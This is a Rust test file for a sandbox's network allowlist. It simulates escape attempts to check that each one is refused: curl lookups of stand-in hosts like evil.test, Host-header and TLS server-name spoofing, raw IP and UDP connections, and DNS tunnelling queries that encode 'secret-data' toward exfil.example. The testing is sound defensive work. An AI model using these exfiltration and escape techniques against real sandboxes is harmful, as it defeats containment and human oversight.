//! `network = "allowlist"`: every escape attempt next to the allowed connection that shows the
//! same client works. Upstreams are served by this test on the host's loopback and named
//! through `[network] hosts` (CI has no internet).

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Command, Output, Stdio};
use std::time::Duration;

use super::harness::*;

/// An HTTP/1 server on the host's loopback: answers `upstream says hi to HOST` to a request,
/// and echoes anything else (an opaque protocol) line by line.
fn upstream() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            std::thread::spawn(move || serve(s));
        }
    });
    port
}

fn serve(s: TcpStream) {
    let _ = s.set_read_timeout(Some(Duration::from_secs(20)));
    let mut r = BufReader::new(s.try_clone().unwrap());
    let mut w = s;
    let mut line = String::new();
    if r.read_line(&mut line).unwrap_or(0) == 0 {
        return;
    }
    if !line.contains("HTTP/1") {
        let _ = w.write_all(format!("echo {line}").as_bytes());
        return;
    }
    let mut host = String::new();
    loop {
        let mut h = String::new();
        if r.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
            break;
        }
        if let Some(v) = h.to_ascii_lowercase().strip_prefix("host:") {
            host = v.trim().split(':').next().unwrap_or("").to_string();
        }
    }
    let body = format!("upstream says hi to {host}\n");
    let _ = w.write_all(
        format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
        .as_bytes(),
    );
}

/// A TLS server (Python's ssl, on the host) with the test certificate for `allowed.test` and
/// `other.test`; killed when dropped.
struct TlsServer {
    child: Child,
    port: u16,
}

impl TlsServer {
    fn start() -> TlsServer {
        let code = format!(
            r#"
import socket, ssl, sys, threading
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain({crt:?}, {key:?})
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()
print(l.getsockname()[1], flush=True)
def serve(c):
    try:
        t = ctx.wrap_socket(c, server_side=True)
        t.recv(4096)
        body = b'tls upstream says hi\n'
        t.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n' % len(body) + body)
        t.close()
    except Exception:
        c.close()
while True:
    c, _ = l.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"#,
            crt = fixture("net-test.crt").display().to_string(),
            key = fixture("net-test.key").display().to_string(),
        );
        let mut child = Command::new("/usr/bin/python3")
            .arg("-c")
            .arg(code)
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        TlsServer {
            child,
            port: line.trim().parse().unwrap(),
        }
    }
}

impl Drop for TlsServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A workspace with an allowlist profile `allow` and the test certificate.
struct NetJob {
    ws: Ws,
    policy: std::path::PathBuf,
}

impl NetJob {
    fn new(allow: &[String]) -> NetJob {
        let ws = Ws::new();
        std::fs::copy(fixture("net-test.crt"), ws.path().join("ca.crt")).unwrap();
        let policy = ws.path().join("net.toml");
        let allow: Vec<String> = allow.iter().map(|a| format!("{a:?}")).collect();
        std::fs::write(
            &policy,
            format!(
                r#"[profile]
name = "net"
default_verdict = "allow"
[sandbox]
read_only = ["/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32",
  "/etc/alternatives", "/etc/ld.so.cache", "/etc/passwd", "/etc/group"]
network = "allowlist"
[network]
allow = [{}]
hosts = {{ "allowed.test" = "127.0.0.1", "other.test" = "127.0.0.1", "a.suffix.test" = "127.0.0.1", "plain.test" = "127.0.0.1" }}
[limits]
wall_time = "60s"
"#,
                allow.join(", ")
            ),
        )
        .unwrap();
        NetJob { ws, policy }
    }

    fn sh(&self, script: &str) -> Output {
        Command::new(&*EXECBOX)
            .arg("run")
            .arg("--json")
            .arg("--policy")
            .arg(&self.policy)
            .arg("--workspace")
            .arg(self.ws.path())
            .args(["--", "/bin/sh", "-c", script])
            .stdin(Stdio::null())
            .env_remove("http_proxy")
            .env_remove("HTTP_PROXY")
            .env_remove("https_proxy")
            .env_remove("HTTPS_PROXY")
            .output()
            .unwrap()
    }

    fn py(&self, code: &str) -> Output {
        self.sh(&format!(
            "exec /usr/bin/python3 -c '{}'",
            code.replace('\'', "'\\''")
        ))
    }
}

fn allow_list(port: u16, tls: u16) -> Vec<String> {
    vec![
        format!("allowed.test:{port}"),
        format!("allowed.test:{tls}"),
        format!("other.test:{port}"),
        format!("other.test:{tls}"),
        format!("*.suffix.test:{port}"),
        "plain.test".into(),
    ]
}

/// The network records of a `--json` report.
fn events(o: &Output) -> Vec<serde_json::Value> {
    json_report(o)["network"]["events"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

fn denied_with(o: &Output, kind: &str, needle: &str) -> bool {
    events(o).iter().any(|e| {
        e["kind"] == kind
            && e["verdict"] == "denied"
            && e["reason"].as_str().unwrap_or("").contains(needle)
    })
}

#[test]
fn allowed_names_are_reachable_by_any_client_and_unlisted_names_do_not_resolve() {
    let port = upstream();
    let job = NetJob::new(&allow_list(port, 1));
    // curl (proxy-aware, but no proxy is set: the path is transparent) and a raw socket.
    let o = job.sh(&format!(
        "curl -sS --noproxy '*' -m 20 http://allowed.test:{port}/; \
         getent hosts allowed.test | cut -d' ' -f1"
    ));
    let out = ok(&o);
    assert!(out.starts_with("upstream says hi to allowed.test"), "{out}");
    assert!(out.contains("127.100."), "a pool address: {out}");
    let raw = format!(
        "import socket\ns = socket.create_connection((\"allowed.test\", {port}), timeout=20)\ns.sendall(b\"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n\")\nprint(s.makefile().read().splitlines()[-1])"
    );
    assert_eq!(ok(&job.py(&raw)), "upstream says hi to allowed.test\n");
    let r = json_report(&o);
    assert!(
        r["network"]["connections_allowed"].as_u64().unwrap() >= 1,
        "{r}"
    );
    let ev = events(&o);
    let conn = ev
        .iter()
        .find(|e| e["kind"] == "connect" && e["verdict"] == "allowed")
        .unwrap();
    assert_eq!(conn["name"], "allowed.test");
    assert_eq!(conn["upstream"], format!("127.0.0.1:{port}"));
    assert!(conn["bytes_down"].as_u64().unwrap() > 0);

    // Escape attempts: an unlisted name, a look-alike of a suffix entry, the bare suffix.
    for name in [
        "evil.test",
        "evilsuffix.test",
        "suffix.test",
        "allowed.test.evil.test",
    ] {
        let o = job.sh(&format!(
            "getent hosts {name} || echo none; curl -sS -m 10 http://{name}:{port}/ 2>&1 | head -c 200"
        ));
        let out = stdout(&o);
        assert!(out.starts_with("none\n"), "{name}: {out}");
        assert!(!out.contains("upstream says"), "{name}: {out}");
        assert!(denied_with(&o, "dns", "not in network.allow"), "{name}");
    }
    // The positive control of the suffix entry.
    let o = job.sh(&format!("curl -sS -m 20 http://a.suffix.test:{port}/"));
    assert_eq!(ok(&o), "upstream says hi to a.suffix.test\n");
}

#[test]
fn an_allowed_address_cannot_be_reused_for_another_name() {
    let port = upstream();
    let tls = TlsServer::start();
    let job = NetJob::new(&allow_list(port, tls.port));
    // HTTP: a Host other than the name the address stands for gets 421.
    let o = job.sh(&format!(
        "curl -sS -m 20 -H 'Host: other.test' http://allowed.test:{port}/"
    ));
    let out = stdout(&o);
    assert!(
        out.contains("HTTP Host other.test is not allowed.test"),
        "{out}"
    );
    assert!(denied_with(&o, "connect", "HTTP Host other.test"));

    // TLS with the test CA: the right name works through curl.
    let o = job.sh(&format!(
        "curl -sS -m 20 --cacert ca.crt https://allowed.test:{}/",
        tls.port
    ));
    assert_eq!(ok(&o), "tls upstream says hi\n");
    // A TLS server name other than the address's name is refused; the same client with the
    // right name is the positive control.
    let probe = |sni: &str| {
        format!(
            "import socket, ssl\nctx = ssl.create_default_context(cafile=\"ca.crt\")\ns = socket.create_connection((\"allowed.test\", {}), timeout=20)\ntry:\n t = ctx.wrap_socket(s, server_hostname=\"{sni}\"); t.sendall(b\"GET / HTTP/1.1\\r\\n\\r\\n\"); print(t.recv(100).split(b\"\\r\\n\")[0].decode())\nexcept (ssl.SSLError, OSError) as e: print(\"refused\")",
            tls.port
        )
    };
    assert_eq!(stdout(&job.py(&probe("allowed.test"))), "HTTP/1.1 200 OK\n");
    let o = job.py(&probe("other.test"));
    assert_eq!(stdout(&o), "refused\n");
    assert!(denied_with(
        &o,
        "connect",
        "TLS server name other.test is not allowed.test"
    ));
}

#[test]
fn ip_literals_udp_ipv6_and_foreign_resolvers_are_refused() {
    let port = upstream();
    let job = NetJob::new(&allow_list(port, 1));
    // An IP literal: the host's loopback upstream (positive control: by name, above) and a
    // public address.
    let code = format!(
        r#"import socket
def tcp(addr, fam=socket.AF_INET):
    try:
        s = socket.socket(fam); s.settimeout(10); s.connect(addr)
    except OSError: return "unreachable"
    try:
        return "open" if s.recv(100) else "closed"
    except OSError: return "closed"
def udp(addr, fam=socket.AF_INET):
    try:
        s = socket.socket(fam, socket.SOCK_DGRAM); s.sendto(b"x", addr); return "sent"
    except OSError: return "refused"
print(tcp(("127.0.0.1", {port})), tcp(("93.184.216.34", 443)), tcp(("127.100.0.200", {port})))
print(udp(("1.1.1.1", 443)), udp(("8.8.8.8", 53)))
print(tcp(("2606:4700::1111", 443), socket.AF_INET6), udp(("2606:4700::1111", 443), socket.AF_INET6))
"#
    );
    let o = job.py(&code);
    assert_eq!(
        stdout(&o),
        "closed unreachable closed\nrefused refused\nunreachable refused\n",
        "{}",
        text(&o.stderr)
    );
    assert!(denied_with(
        &o,
        "connect",
        "was not handed out by the job's DNS"
    ));
}

#[test]
fn dns_tunnelling_gets_no_answer_and_asks_no_one() {
    let port = upstream();
    let job = NetJob::new(&allow_list(port, 1));
    // Raw queries, as a tunnelling client sends them: a TXT and an A for encoded labels, to
    // the job's resolver and to a public one.
    let code = r#"import socket, struct
def q(name, qtype, server):
    pkt = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        pkt += bytes([len(label)]) + label.encode()
    pkt += b"\x00" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    try:
        s.sendto(pkt, server); r = s.recv(512)
        return "rcode=%d answers=%d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])
    except OSError: return "unreachable"
print(q("c2VjcmV0LWRhdGE.exfil.example", 16, ("127.0.0.53", 53)))
print(q("c2VjcmV0LWRhdGE.exfil.example", 1, ("127.0.0.53", 53)))
print(q("allowed.test", 1, ("127.0.0.53", 53)))
print(q("allowed.test", 28, ("127.0.0.53", 53)))
print(q("c2VjcmV0LWRhdGE.exfil.example", 1, ("8.8.8.8", 53)))
"#;
    let o = job.py(code);
    assert_eq!(
        stdout(&o),
        "rcode=3 answers=0\nrcode=3 answers=0\nrcode=0 answers=1\nrcode=0 answers=0\nunreachable\n",
        "{}",
        text(&o.stderr)
    );
    // Denied names are answered from the allowlist alone: no connection, no upstream address.
    let ev = events(&o);
    assert!(ev.iter().all(|e| e["upstream"].is_null()), "{ev:?}");
    assert_eq!(json_report(&o)["network"]["dns_refused"], 2);
}

#[test]
fn opaque_tcp_only_on_a_port_the_entry_names() {
    let port = upstream();
    let job = NetJob::new(&allow_list(port, 1));
    let code = format!(
        r#"import socket
def talk(name, port):
    try:
        s = socket.create_connection((name, port), timeout=20); s.sendall(b"SSH-2.0-probe\r\n")
        return s.recv(100).decode().strip() or "closed"
    except OSError: return "refused"
print(talk("allowed.test", {port}))
print(talk("plain.test", 80))
"#
    );
    let o = job.py(&code);
    assert_eq!(
        stdout(&o),
        "echo SSH-2.0-probe\nclosed\n",
        "{}",
        text(&o.stderr)
    );
    assert!(denied_with(
        &o,
        "connect",
        "opaque TCP needs an entry naming the port"
    ));
}

#[test]
fn the_job_keeps_its_own_loopback_and_nothing_outlives_it() {
    let port = upstream();
    let job = NetJob::new(&allow_list(port, 1));
    // A local server on the job's lo (any port but the captured ones) works beside the relay.
    let local = "import socket, threading\ns = socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen()\nthreading.Thread(target=lambda: s.accept()[0].sendall(b\"local\"), daemon=True).start()\nprint(socket.create_connection(s.getsockname(), timeout=10).recv(5).decode())";
    assert_eq!(ok(&job.py(local)), "local\n");
    // A connection left open when the job ends is closed with it (the job ends as soon as
    // its client has sent its greeting, however long python takes to start).
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let p2 = l.local_addr().unwrap().port();
    let job = NetJob::new(&allow_list(p2, 1));
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let (mut s, _) = l.accept().unwrap();
        s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        let mut buf = [0u8; 64];
        // Read the greeting, then wait for EOF: the job is over.
        let _ = s.read(&mut buf);
        let _ = tx.send(s.read(&mut buf).map(|n| n == 0).unwrap_or(true));
    });
    let o = job.sh(&format!(
        "/usr/bin/python3 -c 'import socket, time; s = socket.create_connection((\"allowed.test\", {p2})); s.sendall(b\"hello\\n\"); open(\"up\", \"w\").close(); time.sleep(60)' & i=0; while [ ! -e up ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done; exit 0"
    ));
    ok(&o);
    assert!(
        rx.recv_timeout(Duration::from_secs(20)).unwrap(),
        "upstream saw EOF"
    );
}

#[test]
fn through_the_daemon_refusals_are_events_audit_records_and_metrics() {
    use super::daemon::{Daemon, http, my_uid};
    let port = upstream();
    let job = NetJob::new(&allow_list(port, 1));
    let profiles = tempfile::tempdir().unwrap();
    std::fs::copy(&job.policy, profiles.path().join("net.toml")).unwrap();
    let d = Daemon::start_profile(
        &format!("[allow]\nuids = [{}]\n", my_uid()),
        profiles.path(),
        "net",
        "",
    );
    let (_, token) = d.session();
    let (status, events) = d.exec(
        &token,
        serde_json::json!({"argv": ["/bin/sh", "-c", format!(
            "curl -sS -m 20 http://allowed.test:{port}/; getent hosts evil.test || echo none"
        )]}),
    );
    assert_eq!(status, 200);
    let denied: Vec<_> = events
        .iter()
        .filter(|e| e["event"] == "net_denied")
        .collect();
    assert!(
        denied
            .iter()
            .any(|e| e["host"] == "evil.test" && e["kind"] == "dns"),
        "{events:?}"
    );
    assert!(
        denied
            .iter()
            .all(|e| e["hint"].as_str().is_some_and(|h| !h.is_empty()))
    );
    let exit = events.last().unwrap();
    assert_eq!(exit["event"], "exit", "{events:?}");
    assert_eq!(exit["code"], 0, "{exit}");
    assert_eq!(exit["network"]["connections_allowed"], 1, "{exit}");
    // The hash-chained audit log has the job's network record.
    let audit = std::fs::read_to_string(d.dir.path().join("audit.jsonl")).unwrap();
    let rec = audit
        .lines()
        .find(|l| l.contains("\"job_exit\"") && l.contains("evil.test"))
        .unwrap_or_else(|| panic!("no job_exit with the network record: {audit}"));
    assert!(rec.contains(&format!("127.0.0.1:{port}")), "{rec}");
    let (_, _, metrics) = http(&d.operator(), "GET", "/metrics", None, None);
    let metrics = text(&metrics);
    assert!(
        metrics.contains("execbox_net_connections_allowed_total 1"),
        "{metrics}"
    );
    assert!(
        metrics.contains("execbox_net_dns_refused_total 2"),
        "{metrics}"
    );
}
